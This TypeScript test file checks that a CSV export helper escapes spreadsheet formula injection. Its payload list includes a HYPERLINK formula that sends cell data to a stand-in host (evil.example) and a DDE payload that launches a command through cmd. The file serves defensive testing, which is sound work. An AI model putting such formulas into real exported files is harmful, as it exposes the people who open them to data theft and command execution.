// util/csv.ts: the CSV writer of every export escapes what a spreadsheet would run as a formula.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { csvCell, toCsv } from '../src/util/csv.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  @x',
  '\x00=1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  "=cmd|' /C calc'!A0",
];

test('formula-like text gets a leading quote; plain text, numbers, booleans and empty values stay as they are', () => {
  for (const f of FORMULAS) assert.equal(csvCell(f), `'${f}`, JSON.stringify(f));
  for (const plain of ['hello', 'a=b', 'x+1', 'user@example.test', '', '1-2']) assert.equal(csvCell(plain), plain);
  assert.equal(csvCell(-5), -5);
  assert.equal(csvCell(null), null);
  assert.equal(csvCell(undefined), null);
  assert.equal(csvCell({ a: '=1' }), '{"a":"=1"}');
});

test('toCsv: RFC 4180 that a CSV reader reads back with every formula escaped', () => {
  const rows = FORMULAS.map((f, i) => ({ id: i, v: f, n: -i, o: { f } }));
  const text = toCsv(rows, ['id', 'v', 'n', 'o'], { recordDelimiter: '\r\n' });
  const back = parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[];
  assert.equal(back.length, FORMULAS.length);
  back.forEach((r, i) => {
    assert.equal(r.v, `'${FORMULAS[i]}`);
    assert.equal(r.n, String(-i));
    assert.equal(JSON.parse(r.o).f, FORMULAS[i]);
  });
  assert.match(text, /^id,v,n,o\r\n/);
});
